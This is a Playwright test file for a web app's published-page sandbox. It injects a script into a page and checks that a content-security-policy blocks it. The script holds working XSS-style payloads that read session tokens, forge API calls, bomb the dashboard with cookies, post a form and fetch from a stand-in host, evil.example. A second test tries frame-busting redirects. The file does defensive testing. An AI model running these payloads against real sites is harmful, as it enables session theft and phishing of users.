import { createHash } from 'node:crypto'
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import type { RunningServer } from '@bubbles/test-kit/server'
import { type Browser, type BrowserContext, expect, type Page } from '@playwright/test'
import { test } from '../fixtures.ts'
import { openAnew, openDashboard } from '../world.ts'

/*
 * A script in a published page, as if the renderer had forgotten to escape it and had even hashed it into the policy:
 * what holds then is the policy's sandbox alone. Every attack is run twice, with the policy and without; without it they
 * have to succeed, or the test would prove nothing.
 */

const PAGE = '/bubbles/iowa-renewables'
const EVIL = 'http://evil.example'

/** What the script tries, by name; each says whether it got through. Runs in the page. */
const ATTACKS = `
  const evil = '${EVIL}'
  const attempt = async (work) => { try { return Boolean(await work()) } catch { return false } }
  const token = () => decodeURIComponent(document.cookie.match(/accessToken=([^;]+)/)[1])
  const call = (method, path, body) => fetch(path, { method, body, headers: { authorization: 'Bearer ' + token(), 'content-type': 'application/json' } })
  const renew = () => fetch('http://login.bubbles.localhost:' + location.port + '/idp/browser', { method: 'POST', credentials: 'include', headers: { 'content-type': 'application/x-amz-json-1.1', 'x-amz-target': 'AWSCognitoIdentityProviderService.GetTokensFromRefreshToken' }, body: '{"ClientId":"bubbles"}' })
  window.attacks = (async () => ({
    'reads the session': await attempt(() => document.cookie.includes('accessToken')),
    'reads the storage': await attempt(() => localStorage.length >= 0),
    'reads the API': await attempt(async () => (await call('GET', '/api/iam/v1/users')).ok),
    'forges a call': await attempt(async () => (await call('POST', '/api/report/v1/reports', '{"name":"Forged"}')).status === 201),
    'renews the session': await attempt(async () => (await renew()).ok),
    'takes the session along': await attempt(async () => /[rR]efreshToken|bubbles-sign-in/.test(document.cookie + JSON.stringify({ ...localStorage }) + await (await renew()).text())),
    'installs a worker': await attempt(() => navigator.serviceWorker.register('/bubbles/worker.js')),
    'tosses a cookie': await attempt(() => { document.cookie = 'tossed=1; path=/; domain=bubbles.localhost'; return document.cookie.includes('tossed') }),
    'looks into the dashboard': await attempt(async () => {
      const other = open('/dashboard/reports')
      await new Promise((resolve) => { window.look = resolve })
      return other.document.title.length > 0
    }),
    'bombs with cookies': await attempt(() => { for (let n = 0; n < 20; n++) document.cookie = 'bomb' + n + '=' + 'x'.repeat(3000) + '; path=/dashboard; max-age=60'; for (let n = 0; n < 3; n++) document.cookie = 'seen' + n + '=' + 'x'.repeat(3000) + '; max-age=60'; return document.cookie.length > 6000 }),
    'sends a form elsewhere': await attempt(async () => {
      const frame = document.body.appendChild(document.createElement('iframe'))
      frame.name = 'taken'
      const form = document.body.appendChild(document.createElement('form'))
      Object.assign(form, { action: evil + '/phished', method: 'post', target: 'taken' })
      form.submit()
      return true
    }),
    'asks elsewhere': await attempt(() => fetch(evil + '/fetched', { mode: 'no-cors' })),
    'shows a picture from elsewhere': await attempt(() => new Promise((resolve, reject) => { const image = new Image(); image.onload = resolve; image.onerror = reject; image.src = evil + '/picture.svg' })),
  }))()
`

/** Lets a script into every answer for the page, with its hash in the policy; or takes the policy away. */
async function plant(
  context: BrowserContext,
  address: string,
  script: string,
  policy: 'kept' | 'taken away',
) {
  const hash = `'sha256-${createHash('sha256').update(script).digest('base64')}'`
  await context.route(address, async (route) => {
    const answer = await fetch(address, { headers: { 'accept-encoding': 'identity' } })
    const csp = answer.headers.get('content-security-policy')!
    expect(csp).toContain('sandbox')
    expect(csp).toMatch(/script-src /)
    const headers = {
      'content-type': 'text/html; charset=utf-8',
      ...(policy === 'kept' && {
        'content-security-policy': csp.replace('script-src ', `script-src ${hash} `),
      }),
    }
    const body = (await answer.text()).replace('</body>', () => `<script>${script}</script></body>`)
    await route.fulfill({ status: answer.status, headers, body })
  })
  await context.route('**/bubbles/worker.js', (route) =>
    route.fulfill({ contentType: 'text/javascript', body: 'onfetch = () => {}' }),
  )
}

async function attack(
  browser: Browser,
  server: RunningServer,
  policy: 'kept' | 'taken away',
): Promise<{ outcome: Record<string, boolean>; page: Page; asked: string[] }> {
  // What is answered here comes from nowhere, and browsers keep such pages from other hosts of this machine otherwise.
  const context = await browser.newContext({ permissions: ['local-network-access'] })
  const asked: string[] = []
  await context.route(`${EVIL}/**`, (route) => {
    const { pathname } = new URL(route.request().url())
    asked.push(pathname)
    return pathname.endsWith('.svg')
      ? route.fulfill({ contentType: 'image/svg+xml', body: '<svg xmlns="http://www.w3.org/2000/svg"/>' })
      : route.fulfill({ body: 'taken' })
  })
  const page = await context.newPage()
  await openAnew(page, server, 'builder@acme.example')
  await page.getByRole('heading', { name: 'Reports', level: 1 }).waitFor()
  const address = server.at('acme', PAGE)
  await plant(context, address, ATTACKS, policy)
  const opened = context.waitForEvent('page')
  const refused: string[] = []
  page.on('console', (message) => refused.push(message.text()))
  await page.goto(address)
  // The window it opened is looked into when there is something to see.
  await (await opened).getByRole('heading', { name: 'Reports', level: 1 }).waitFor()
  await page.evaluate('look()')
  const outcome = (await page.evaluate('window.attacks')) as Record<string, boolean>
  // The form goes its own way, of which the script hears nothing.
  const isSettled = () => asked.includes('/phished') || refused.some((text) => /\bform\b/.test(text))
  await expect.poll(isSettled).toBe(true)
  return { outcome, page, asked }
}

test('a script that slipped into a page reaches nothing; without the policy it would reach all', async ({
  browser,
  server,
}) => {
  const free = await attack(browser, server, 'taken away')
  // The dashboard keeps windows of others away from itself (Cross-Origin-Opener-Policy), policy or not.
  const { 'looks into the dashboard': looked, 'takes the session along': taken, ...reached } = free.outcome
  // What renews the session is out of reach of every script of the domain, policy or not.
  expect([looked, taken]).toEqual([false, false])
  expect(reached).toEqual(Object.fromEntries(Object.keys(reached).map((name) => [name, true])))
  await expect.poll(() => free.asked.toSorted()).toEqual(['/fetched', '/phished', '/picture.svg'])
  await free.page.context().close()

  const held = await attack(browser, server, 'kept')
  // Whether a form went out only the other side knows.
  const { 'sends a form elsewhere': _sent, ...refused } = held.outcome
  expect(refused).toEqual(Object.fromEntries(Object.keys(refused).map((name) => [name, false])))
  expect(held.asked).toEqual([])
  const cookies = await held.page.context().cookies()
  expect(cookies.filter(({ name }) => /^(tossed|bomb|seen)/.test(name))).toEqual([])
  // The session still stands.
  await held.page.goto(server.at('acme', '/dashboard/reports'))
  await expect(held.page.getByRole('heading', { name: 'Reports', level: 1 })).toBeVisible()
  await held.page.context().close()
})

test('a framed page cannot lead the page around it away, and its messages move no dashboard', async ({
  browser,
  server,
}) => {
  const address = server.at('acme', PAGE)
  const outer = createServer((_request, response) => {
    response.writeHead(200, { 'content-type': 'text/html' })
    response.end(`<title>Outer</title><iframe src="${address}"></iframe>`)
  })
  await new Promise<void>((resolve) => outer.listen(0, '127.0.0.1', resolve))
  const around = `http://127.0.0.1:${(outer.address() as AddressInfo).port}/`
  const script = `
    addEventListener('click', () => {
      for (const message of [{ type: 'navigate', to: '/' }, { redirect_url: 'https://evil.example' }, 'reload'])
        parent.postMessage(message, '*')
      try {
        top.location = '${server.at('acme', '/bubbles/no-such-report')}'
      } catch (error) {
        document.body.dataset.refused = error.name
      }
    })`
  try {
    for (const policy of ['taken away', 'kept'] as const) {
      const context = await browser.newContext()
      await plant(context, address, script, policy)
      const page = await context.newPage()
      await page.goto(around)
      await page.frameLocator('iframe').locator('h1').click()
      if (policy === 'taken away') await page.waitForURL(/no-such-report/)
      else {
        await expect(page.frameLocator('iframe').locator('body')).toHaveAttribute(
          'data-refused',
          'SecurityError',
        )
        expect(page.url()).toBe(around)
      }
      await context.close()
    }
    await expectUnmoved(await browser.newContext(), server)
  } finally {
    outer.close()
  }
})

/** What a published page sends to a dashboard that it has opened moves nothing there. */
async function expectUnmoved(context: BrowserContext, server: RunningServer): Promise<void> {
  const address = server.at('acme', PAGE)
  const dashboard = await context.newPage()
  await openDashboard(dashboard, server, 'builder@acme.example')
  await dashboard.getByRole('heading', { name: 'Reports', level: 1 }).waitFor()
  await plant(
    context,
    address,
    `const other = open('${server.at('acme', '/dashboard/reports')}')
    window.meet = () => {
      let seen = false
      try { seen = other.document.title !== undefined } catch {}
      for (const message of [{ type: 'navigate', to: '/dashboard/user/account' }, { type: 'signOut' }, { token: 'x' }])
        other?.postMessage(message, '*')
      return { opener: window.opener !== null, seen }
    }`,
    'kept',
  )
  const reader = await context.newPage()
  const opened = context.waitForEvent('page')
  await reader.goto(address)
  const other = await opened
  await other.getByRole('heading', { name: 'Reports', level: 1 }).waitFor()
  expect(await reader.evaluate('meet()')).toEqual({ opener: false, seen: false })
  await expect(other.getByRole('heading', { name: 'Reports', level: 1 })).toBeVisible()
  await expect(other).toHaveURL(/\/dashboard\/reports/)
  await context.close()
}
